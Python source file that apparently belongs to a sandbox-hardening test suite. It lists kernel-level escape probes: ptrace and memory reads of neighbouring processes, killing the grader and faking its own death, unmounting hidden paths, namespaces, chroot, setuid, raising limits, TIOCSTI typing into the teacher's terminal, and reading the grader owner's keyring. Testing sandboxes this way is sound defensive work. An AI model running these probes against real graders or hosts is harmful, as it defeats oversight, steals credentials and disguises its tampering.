"""Calls to the kernel: tracing, killing, mounting, namespaces, users, limits, io_uring, the terminal."""

from attacks.attack import Attack


def _calling(
    name: str, tries: str, code: str, weakened: str = "no_walls", needs: str = "", granted: str = ""
) -> Attack:
    """An attack that calls the C library as `libc` and tells what was not refused."""
    head = "libc = ctypes.CDLL(None, use_errno=True)\n"
    return Attack(name=name, tries=tries, code=head + code, weakened=weakened, needs=needs, granted=granted)


ATTACKS = [
    _calling(
        "ptrace_a_neighbour",
        "attaches to a process next door with ptrace",
        """
if libc.ptrace(16, FIELD["neighbour"], 0, 0) == 0:  # PTRACE_ATTACH
    os.waitpid(FIELD["neighbour"], 0)
    libc.ptrace(17, FIELD["neighbour"], 0, 0)  # PTRACE_DETACH
    tell("attached")
""",
    ),
    _calling(
        "write_a_neighbours_memory",
        "reads the memory of a process next door with process_vm_readv and through /proc",
        """
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_size_t), ("length", ctypes.c_size_t)]
try:
    maps = open(f"/proc/{FIELD['neighbour']}/maps").readline()
except OSError:
    maps = "400000-401000"
start = int(maps.split("-")[0], 16)
here = ctypes.create_string_buffer(16)
one, other = Piece(ctypes.addressof(here), 16), Piece(start, 16)
tell(max(0, libc.process_vm_readv(FIELD["neighbour"], ctypes.byref(one), 1, ctypes.byref(other), 1, 0)))
""",
    ),
    _calling(
        "kill_a_neighbour",
        "kills a process next door, the grader's own",
        """
try:
    os.kill(FIELD["neighbour"], signal.SIGKILL)
except OSError:
    pass
""",
    ),
    _calling(
        "kill_the_parent",
        "kills the process that keeps it, so that its own end looks like the machine's doing",
        """
parent = os.getppid()
if parent > 1:
    try:
        os.kill(parent, signal.SIGKILL)
    except OSError:
        return None
    time.sleep(5)
""",
        weakened="walls_in_name_alone",
    ),
    _calling(
        "mount_over_the_system",
        "mounts a file system of its own",
        """
os.makedirs("mine", exist_ok=True)
if libc.mount(b"tmpfs", b"mine", b"tmpfs", 0, None) == 0:
    libc.umount2(b"mine", 2)
    tell("mounted")
""",
        weakened="keeps_capabilities",
        needs="namespaces for each worker",
    ),
    _calling(
        "unmount_what_hides",
        "unmounts the empty folders that hide /proc and the rest",
        """
for path in (b"/proc", b"/usr/share/datasets", b"/tmp", b"/dev/shm"):
    if libc.umount2(path, 2) == 0:
        tell([path, os.listdir(path)])
""",
        weakened="keeps_capabilities",
        needs="namespaces for each worker",
    ),
    _calling(
        "namespaces",
        "makes namespaces of its own, and mounts in them with all of root's capabilities",
        """
if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER, CLONE_NEWNS
    tell(libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0 and "mounted")
""",
        weakened="keeps_capabilities",
        needs="namespaces for each worker",
    ),
    _calling(
        "chroot",
        "leaves by chroot",
        """
try:
    os.chroot("/usr")
except OSError:
    pass
else:
    tell("chroot")
""",
        needs="root",
    ),
    _calling(
        "become_root",
        "becomes another user with setuid, setgid and setgroups",
        """
for change in (lambda: os.setresuid(0, 0, 0), lambda: os.setresgid(1, 1, 1), lambda: os.setgroups([1])):
    try:
        change()
    except OSError:
        continue
    tell([os.getuid(), os.getgid()])
""",
        needs="root",
    ),
    _calling(
        "setuid_program",
        "runs a program that becomes root by its file's mode",
        """
import subprocess
for program in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/usr/bin/newgrp"):
    if os.path.exists(program) and os.stat(program).st_mode & stat.S_ISUID:
        try:
            out = subprocess.run([program, "--version"], capture_output=True, timeout=5)
        except OSError:
            continue
        status = "/proc/self/status"
        tell(os.path.exists(status) and "NoNewPrivs:\\t0" in open(status).read())
""",
    ),
    _calling(
        "raise_limits",
        "raises its own limits of memory, time and files",
        """
for which in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    soft, hard = resource.getrlimit(which)
    more = hard if soft != hard else hard + 1
    try:
        resource.setrlimit(which, (more, more))
    except (OSError, ValueError):
        continue
    tell([which, soft, more])
""",
        weakened="soft_limits",
    ),
    _calling(
        "priority",
        "takes the processor from everybody else by priority",
        """
try:
    os.nice(-10)
except OSError:
    pass
else:
    os.nice(10)
    tell("priority")
""",
        needs="root",
    ),
    _calling(
        "capabilities",
        "takes back the capabilities that were dropped",
        """
header = (ctypes.c_uint32 * 2)(0x20080522, 0)
held = (ctypes.c_uint32 * 6)()
libc.capget(header, held)
tell([hex(number) for number in held if number])
""",
        needs="root",
        granted="CAP_DAC_READ_SEARCH, where root's Python lies in a folder that is closed to others",
    ),
    _calling(
        "terminal_input",
        "types commands into the teacher's terminal with ioctl TIOCSTI",
        """
import fcntl
for path in (FIELD["terminal"], 0, 1, 2, "/dev/tty"):
    try:
        number = path if isinstance(path, int) else os.open(path, os.O_RDWR)  # it becomes this session's own terminal
        fcntl.ioctl(number, 0x5412, b" ")
    except OSError:
        continue
    tell(path)
""",
        needs="a kernel that lets terminals be typed into",
    ),
    _calling(
        "keyring",
        "reads the keys of whoever runs the grader",
        """
number = libc.syscall(250, 11, -3, 0, 0)  # KEYCTL_READ of the session's keyring
if number > 0:
    keys = (ctypes.c_int32 * (number // 4))()
    libc.syscall(250, 11, -3, keys, number)
    loot = ctypes.create_string_buffer(80)
    tell([loot.value for key in keys if libc.syscall(250, 11, key, loot, 80) > 0])
""",
        weakened="no_walls",
        needs="a kernel that keeps keys",
    ),
    _calling(
        "kernel_doors",
        "opens io_uring, bpf, perf_event_open and userfaultfd",
        """
buffer = ctypes.create_string_buffer(256)
doors = {"bpf": (321, 0, buffer, 72), "perf_event_open": (298, buffer, 0, -1, -1, 0)}
doors |= {"io_uring_setup": (425, 4, buffer), "userfaultfd": (323, 0)}
found = [name for name, arguments in doors.items() if libc.syscall(*arguments) >= 0]
tell(found)
""",
    ),
    _calling(
        "clock_and_host",
        "changes the machine's name and its clock",
        """
try:
    socket.sethostname(socket.gethostname())
except OSError:
    pass
else:
    tell("hostname")
""",
        needs="root",
    ),
]
